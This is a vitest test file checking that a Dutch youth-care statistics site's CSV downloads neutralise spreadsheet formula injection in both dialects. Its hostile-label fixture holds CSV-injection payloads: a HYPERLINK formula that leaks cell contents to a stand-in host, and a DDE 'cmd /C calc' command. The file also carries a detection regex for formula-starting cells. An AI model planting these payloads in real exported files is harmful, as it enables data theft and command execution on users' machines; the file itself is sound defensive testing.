/**
 * No cell of any CSV the site writes can run as a formula in a spreadsheet (issue 12, OWASP "CSV
 * injection"). Hostile labels are put into the fixture site's metadata and register (region, category,
 * dimension and measure names, a dataset title), and every CSV file goes through the real download
 * functions: the whole-dataset files, every gemeente's files and the entries of every release zip
 * (siteDownloadFiles), the revisions of every release, the comparison files (tableCsv) and the table page's
 * selection file. In both dialects, read with either separator (a comma file double-clicked in Dutch Excel
 * is split at `;`), no cell may start with = + - @ tab or CR, except a number and the CBS symbol `-`.
 * Numbers are never touched: a -3 and a -0,5 stay numbers. The JSON downloads keep the labels as they are.
 */
import { beforeAll, describe, expect, it } from 'vitest';
import type { DatasetMeta } from '../../src/schemas/dataset';
import { rowIndexOf, type Dataset, type ObservationRow } from '../../src/lib/data/dataset';
import type { ConvertedDataset } from '../../src/lib/regions/convert';
import type { RegionRegister } from '../../src/lib/regions/register';
import { formatCsv, formatCsvRows, neutraliseText, type CsvDialect } from '../../src/lib/downloads/csv';
import { tableCsv, type DownloadTable } from '../../src/lib/downloads/comparisons';
import { registerLabel, renderDatasetFile } from '../../src/lib/downloads/files';
import { datasetFile, gemeenteFile, siteDownloadFiles } from '../../src/lib/downloads/site-files';
import { revisionsCsv } from '../../src/lib/releases/revisions-file';
import { defaultSelection } from '../../src/lib/tables/selection';
import { selectionFile } from '../../src/lib/tables/selection-download';
import { tableSourceOf } from '../../src/lib/tables/table-source';
import type { SiteData } from '../../src/node/site-data';
import { fixtureSite } from '../releases/fixture';

const SITE = 'https://jeugdzorg.example/';

/** Labels as an attacker would write them into an import file. */
const HOSTILE = [
  '=HYPERLINK("https://kwaad.example/?d="&A1,"Klik hier")',
  '+1',
  '-2+3',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  ' =1+1',
  '=cmd|\' /C calc\'!A0',
  'Vught;=1+1',
  'Vught,=1+1',
  '＝1+1',
] as const;

/** Numbers in each dialect: these may start with a minus. */
const NUMBER: Record<CsvDialect, RegExp> = {
  rfc4180: /^-?\d+(\.\d+)?(e[+-]?\d+)?$/,
  'excel-nl': /^-?\d+(,\d+)?(e[+-]?\d+)?$/,
};
/** What a spreadsheet would start a formula with (also after spaces and invisible characters it may drop). */
const DANGEROUS = /^(?:[\t\r\n]|[\s\u200b-\u200f\u202a-\u202e\u2060-\u2064\ufeff]*[=+\-@\uff1d\uff0b\uff0d\uff20])/;

/**
 * The fields of a CSV text. Strict (the file's own separator): RFC 4180, a quote doubled inside quotes, and
 * anything else is an error. Lenient (another separator, as a spreadsheet reads a file of the other
 * dialect): a quote opens a quoted part only at the start of a field, and what follows a closing quote, or a
 * quote in mid-field, is kept as text, as Excel does.
 */
function parse(text: string, delimiter: string, strict = true): string[][] {
  const body = text.startsWith('\ufeff') ? text.slice(1) : text;
  const rows: string[][] = [];
  let row: string[] = [];
  let i = 0;
  const end = (at: number) => at >= body.length || body[at] === delimiter || body[at] === '\r' || body[at] === '\n';
  while (i < body.length) {
    let field = '';
    if (body[i] === '"') {
      i++;
      for (;;) {
        if (i >= body.length) {
          if (strict) throw new Error('quote not closed');
          break;
        }
        if (body[i] === '"' && body[i + 1] === '"') (field += '"'), (i += 2);
        else if (body[i] === '"') {
          i++;
          break;
        } else field += body[i++];
      }
      if (!end(i) && strict) throw new Error(`text after a closing quote at ${i}`);
    }
    while (!end(i)) {
      if (body[i] === '"' && strict) throw new Error(`quote inside an unquoted field at ${i}`);
      field += body[i++];
    }
    row.push(field);
    if (body[i] === delimiter) i++;
    else {
      if (body[i] === '\r') i++;
      if (body[i] === '\n') i++;
      rows.push(row);
      row = [];
    }
  }
  if (row.length > 0) rows.push(row);
  return rows;
}

/** The cells of a file that a spreadsheet could take as a formula, read with either separator. */
function formulaCells(text: string, dialect: CsvDialect): string[] {
  const bad: string[] = [];
  const own = dialect === 'rfc4180' ? ',' : ';';
  for (const delimiter of [',', ';']) {
    for (const row of parse(text, delimiter, delimiter === own)) {
      for (const cell of row) {
        if (!DANGEROUS.test(cell) || cell === '-') continue;
        if (NUMBER[dialect].test(cell) || NUMBER.rfc4180.test(cell)) continue;
        bad.push(cell);
      }
    }
  }
  return bad;
}

/** Every line has the header's number of fields: the quoting holds. */
function expectRectangular(text: string, dialect: CsvDialect, name: string) {
  const rows = parse(text, dialect === 'rfc4180' ? ',' : ';');
  const width = rows[0]!.length;
  for (const [i, row] of rows.entries()) expect(row.length, `${name}, regel ${i + 1}`).toBe(width);
}

const hostile = (i: number) => HOSTILE[i % HOSTILE.length]!;

function hostileMeta(meta: DatasetMeta): DatasetMeta {
  return {
    ...meta,
    title: hostile(0),
    dimensions: meta.dimensions.map((d, j) => ({ ...d, label: hostile(2 + j), codes: d.codes.map((c, k) => ({ ...c, label: hostile(j + k) })) })),
    measures: meta.measures.map((m, j) => ({ ...m, label: hostile(j + 3) })),
  };
}

/** The first row of Nederland gets negative figures: -3 and -0.5 in turn (never published, but numbers all the same). */
function withNegatives<R extends ObservationRow>(rows: readonly R[]): R[] {
  const first = rows.findIndex((r) => r.region === 'NL01');
  return rows.map((r, i) => (i === first ? { ...r, cells: r.cells.map((_, j) => ({ value: j % 2 === 0 ? -3 : -0.5, symbol: null })) } : r));
}

/** The register with hostile names for a gemeente and every wijk. */
function hostileRegister(register: RegionRegister): RegionRegister {
  const named: Record<string, string> = { GM0865: HOSTILE[0], GM0757: HOSTILE[1], GM0855: HOSTILE[8] };
  return Object.assign(Object.create(register) as RegionRegister, {
    label: (code: string) => named[code] ?? (code.startsWith('WK') ? HOSTILE[3] : register.label(code)),
    wijkLabel: () => HOSTILE[4],
  });
}

let data: SiteData;

beforeAll(async () => {
  const site = await fixtureSite();
  const register = hostileRegister(site.register);
  const originals = new Map<string, Dataset>();
  const datasets = site.datasets.map((d) => {
    const meta = hostileMeta(d.meta);
    const original: Dataset = { meta, rows: withNegatives(d.original.rows) };
    const converted: ConvertedDataset = { ...d.converted, meta, rows: withNegatives(d.converted.rows) };
    originals.set(meta.id, original);
    return { ...d, meta, original, converted, index: rowIndexOf(converted) };
  });
  const store = { ...site.store, datasets: site.store.datasets.map((ds) => originals.get(ds.meta.id)!) };
  data = { ...site, register, store, datasets };
}, 120_000);

describe('CSV cells never run as formulas', () => {
  it('neutralises a text that starts like a formula with a leading quote, and leaves other texts and the symbol - alone', () => {
    expect(HOSTILE.map(neutraliseText)).toEqual([
      `'${HOSTILE[0]}`,
      "'+1",
      "'-2+3",
      "'@SUM(A1)",
      "'\t'=1+1",
      "'\r'=1+1",
      "' =1+1",
      `'${HOSTILE[7]}`,
      // A cell that a reading with the other separator would start.
      "Vught;'=1+1",
      "Vught,'=1+1",
      "'＝1+1",
    ]);
    expect(neutraliseText('a\n=1+1')).toBe("a\n'=1+1");
    expect(neutraliseText('a; "-1+2"')).toBe("a;' \"-1+2\"");
    for (const text of ['Amsterdam', "'s-Hertogenbosch", '.', 'x', '-', '', '0 tot 4 jaar', '12-18 jaar', 'Jeugdhulp - totaal', 'a; -', 'info@cbs.nl', '1+1']) {
      expect(neutraliseText(text), text).toBe(text);
    }
  });

  it('writes hostile texts quoted and neutralised, and numbers as numbers, in both dialects', () => {
    const columns = ['regio', 'waarde', 'teken'];
    const records = HOSTILE.map((label, i) => ({ regio: label, waarde: i % 2 === 0 ? -3 : -0.5, teken: i === 0 ? '-' : '' }));
    const rfc = formatCsv(columns, records, 'rfc4180');
    expect(rfc.split('\r\n')[1]).toBe(`"'=HYPERLINK(""https://kwaad.example/?d=""&A1,""Klik hier"")",-3,-`);
    expect(rfc.split('\r\n')[2]).toBe(`"'+1",-0.5,`);
    expect(rfc).toContain(`"Vught;'=1+1",-3,`);
    const excel = formatCsv(columns, records, 'excel-nl');
    expect(excel.split('\r\n')[1]).toBe(`"'=HYPERLINK(""https://kwaad.example/?d=""&A1,""Klik hier"")";-3;"-"`);
    expect(excel.split('\r\n')[2]).toBe(`"'+1";-0,5;""`);
    for (const [text, dialect] of [[rfc, 'rfc4180'], [excel, 'excel-nl']] as const) {
      expect(formulaCells(text, dialect)).toEqual([]);
      expectRectangular(text, dialect, dialect);
    }
    // The row writer (whole datasets, revisions, table selections) writes the same.
    expect(formatCsvRows(columns, records.map((r) => [r.regio, r.waarde, r.teken]), 'rfc4180')).toBe(rfc);
    expect(formatCsvRows(columns, records.map((r) => [r.regio, r.waarde, r.teken]), 'excel-nl')).toBe(excel);
  });

  it('holds for every CSV file and release zip entry of the site, and the negative figures stay numbers', () => {
    let files = 0;
    for (const item of siteDownloadFiles(data, SITE)) {
      const { name, text } = 'path' in item ? { name: item.path, text: item.render() } : (({ name, data }) => ({ name, text: data }))(item.render());
      if (!name.endsWith('.csv')) continue;
      const dialect: CsvDialect = name.endsWith('-excel.csv') ? 'excel-nl' : 'rfc4180';
      expect(formulaCells(text, dialect), name).toEqual([]);
      expectRectangular(text, dialect, name);
      files++;
    }
    // Datasets, gemeenten, release zips and revisions, each in both dialects.
    expect(files).toBeGreaterThan(100);
  });

  it('writes the hostile labels neutralised in the dataset and gemeente files, and as they are in a selection’s JSON', () => {
    const id = data.datasets[0]!.meta.id;
    const csv = datasetFile(data, id, 'csv');
    const excel = datasetFile(data, id, 'excel');
    expect(csv).toContain(`"'=HYPERLINK(""https://kwaad.example/?d=""&A1,""Klik hier"")"`);
    expect(csv).toContain(`,"'+1",`);
    expect(csv).toContain(`,"'-2+3",`);
    expect(excel).toContain(`;"'@SUM(A1)";`);
    // Nederland's negative figures: plain numbers, not neutralised and not quoted.
    expect(csv).toMatch(/^NL01,Nederland,.*,-3,,-0\.5,/m);
    expect(excel).toMatch(/^"NL01";"Nederland";.*;-3;"";-0,5;""/m);
    expect(csv).not.toContain("'-3");
    const vught = gemeenteFile(data, 'GM0865', id, 'csv');
    expect(vught).toMatch(/^GM0865,"'=HYPERLINK/m);
    // JSON is a selection's format (a table page): made by the JSON writer, which needs no neutralising.
    const d = data.datasets[0]!;
    const json = renderDatasetFile(d.meta, d.converted.rows, 'json', { regionLabel: registerLabel(data.register), release: undefined, indeling: '' });
    expect(json).toContain(JSON.stringify(HOSTILE[1]));
    expect(json).not.toContain(`"'+1"`);
  });

  it('neutralises the revisions of a release (titles, regions, categories, measures), with negative differences as numbers', () => {
    const releases = data.store.catalog.releases.slice(1);
    let negative = 0;
    for (const release of releases) {
      for (const dialect of ['rfc4180', 'excel-nl'] as const) {
        const text = revisionsCsv(data.store, data.register, release.id, dialect);
        expect(formulaCells(text, dialect), `${release.id} ${dialect}`).toEqual([]);
        expectRectangular(text, dialect, `herzieningen ${release.id}`);
        if (dialect === 'rfc4180') {
          const rows = parse(text, ',');
          const at = rows[0]!.indexOf('verschil');
          negative += rows.filter((r) => r[at]!.startsWith('-') && NUMBER.rfc4180.test(r[at]!)).length;
          if (rows.length > 1) expect(rows[1]![1]).toBe(`'${HOSTILE[0]}`);
        }
      }
    }
    expect(negative).toBeGreaterThan(0);
  });

  it('neutralises the comparison files, numbers untouched', () => {
    const table: DownloadTable = {
      name: 'vergelijkingen',
      title: 'Vergelijkingen',
      description: '',
      columns: [
        { name: 'regio', type: 'string', title: 'Regio', description: '' },
        { name: 'z', type: 'number', title: 'z-score', description: '' },
        { name: 'oordeel', type: 'string', title: 'Oordeel', description: '' },
      ],
      primaryKey: ['regio'],
      records: HOSTILE.map((h, i) => ({ regio: h, z: -(i + 0.5), oordeel: hostile(i + 1) })),
    };
    const rfc = tableCsv(table, 'rfc4180');
    const excel = tableCsv(table, 'excel-nl');
    expect(formulaCells(rfc, 'rfc4180')).toEqual([]);
    expect(formulaCells(excel, 'excel-nl')).toEqual([]);
    expect(rfc.split('\r\n')[2]).toBe(`"'+1",-1.5,"'-2+3"`);
    expect(excel.split('\r\n')[2]).toBe(`"'+1";-1,5;"'-2+3"`);
  });

  it('neutralises the table page’s selection file in both dialects', () => {
    const d = data.datasets.find((x) => x.meta.dimensions.length > 0)!;
    const source = tableSourceOf(d, data.register);
    const selection = defaultSelection({ meta: source.meta, periods: source.periods, regions: source.regions });
    for (const [format, dialect] of [['csv', 'rfc4180'], ['excel', 'excel-nl']] as const) {
      const { text } = selectionFile(source, selection, format, { release: undefined, permalink: `${SITE}tabellen/${d.meta.id}/` });
      expect(formulaCells(text, dialect), format).toEqual([]);
      expectRectangular(text, dialect, format);
      expect(text).toMatch(/"'[=+\-@]/);
    }
  });
});
